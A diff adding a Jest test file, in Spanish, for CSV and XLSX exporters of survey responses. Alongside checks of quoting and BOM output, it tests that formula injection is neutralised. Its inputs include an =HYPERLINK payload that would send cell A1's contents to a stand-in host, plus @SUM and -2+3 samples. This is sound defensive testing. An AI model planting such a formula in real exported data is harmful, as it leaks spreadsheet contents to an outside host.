@@ -0,0 +1,93 @@
+/**
+ * @jest-environment node
+ */
+const { PassThrough } = require('stream');
+const ExcelJS = require('exceljs');
+const { COLUMNAS, escribirCsv, escribirXlsx } = require('./exportacion');
+
+// Escribe el archivo en un stream en memoria y devuelve su contenido completo
+const exportar = async (escritor, filas, tabla) => {
+  const res = new PassThrough();
+  const partes = [];
+  res.on('data', (parte) => partes.push(parte));
+  const terminado = new Promise((resolve) => res.on('end', resolve));
+  await escritor(res, filas, tabla);
+  await terminado;
+  return Buffer.concat(partes);
+};
+
+const csv = async (filas, tabla) => (await exportar(escribirCsv, filas, tabla)).toString('utf8');
+
+const respuesta = (cambios = {}) => ({
+  id: '65f000000000000000000001',
+  fecha: '2024-03-01',
+  hora: '10:30',
+  puesto: 'A-12',
+  problemas: ['robo', 'iluminacion'],
+  sugerencia: 'Más luces',
+  ...cambios,
+});
+
+describe('escribirCsv', () => {
+  it('empieza con el BOM y la fila de títulos', async () => {
+    const texto = await csv([]);
+    expect(texto.charCodeAt(0)).toBe(0xFEFF);
+    expect(texto.slice(1)).toBe(`${COLUMNAS.map(c => c.titulo).join(',')}\r\n`);
+  });
+
+  it('escribe una línea por respuesta con las listas separadas por punto y coma', async () => {
+    const [, fila] = (await csv([respuesta()])).split('\r\n');
+    const campos = fila.split(',');
+    expect(campos[COLUMNAS.findIndex(c => c.clave === 'problemas')]).toBe('robo; iluminacion');
+    expect(campos[COLUMNAS.findIndex(c => c.clave === 'sugerencia')]).toBe('Más luces');
+  });
+
+  it('entrecomilla los campos con comas, comillas o saltos de línea', async () => {
+    const tabla = { columnas: [{ clave: 'a', titulo: 'A' }, { clave: 'b', titulo: 'B' }], aFila: (fila) => fila };
+    const texto = await csv([
+      { a: 'uno, dos', b: 'dijo "basta"' },
+      { a: 'línea 1\nlínea 2', b: 'simple' },
+    ], tabla);
+
+    expect(texto.slice(1).split('\r\n')).toEqual([
+      'A,B',
+      '"uno, dos","dijo ""basta"""',
+      '"línea 1\nlínea 2",simple',
+      '',
+    ]);
+  });
+
+  it('acepta un iterable asíncrono como el cursor de MongoDB', async () => {
+    async function* cursor() {
+      yield respuesta({ id: 'r1' });
+      yield respuesta({ id: 'r2' });
+    }
+    const lineas = (await csv(cursor())).split('\r\n');
+    expect(lineas.map(linea => linea.split(',')[0]).slice(1, 3)).toEqual(['r1', 'r2']);
+  });
+
+  it('desactiva las fórmulas de los textos escritos por el encuestado', async () => {
+    const [, fila] = (await csv([respuesta({
+      nombre: '=HYPERLINK("http://ejemplo.com/?d="&A1,"Ver")',
+      sugerencia: '@SUM(1+1)',
+      problemaOtro: '-2+3',
+      calificacion: 4,
+    })])).split('\r\n');
+
+    expect(fila).toContain(',"\'=HYPERLINK(""http://ejemplo.com/?d=""&A1,""Ver"")",A-12,');
+    expect(fila).toContain(",4,robo; iluminacion,'-2+3,'@SUM(1+1),");
+  });
+});
+
+describe('escribirXlsx', () => {
+  it('guarda como texto las celdas que empiezan como una fórmula', async () => {
+    const libro = new ExcelJS.Workbook();
+    await libro.xlsx.load(await exportar(escribirXlsx, [respuesta({ nombre: '=HYPERLINK("http://ejemplo.com","Ver")', calificacion: 4 })]));
+    const fila = libro.getWorksheet('Respuestas').getRow(2);
+    const celda = (clave) => fila.getCell(COLUMNAS.findIndex(c => c.clave === clave) + 1).value;
+
+    expect(celda('nombre')).toBe('\'=HYPERLINK("http://ejemplo.com","Ver")');
+    expect(celda('problemas')).toBe('robo; iluminacion');
+    expect(celda('calificacion')).toBe(4);
+  });
+});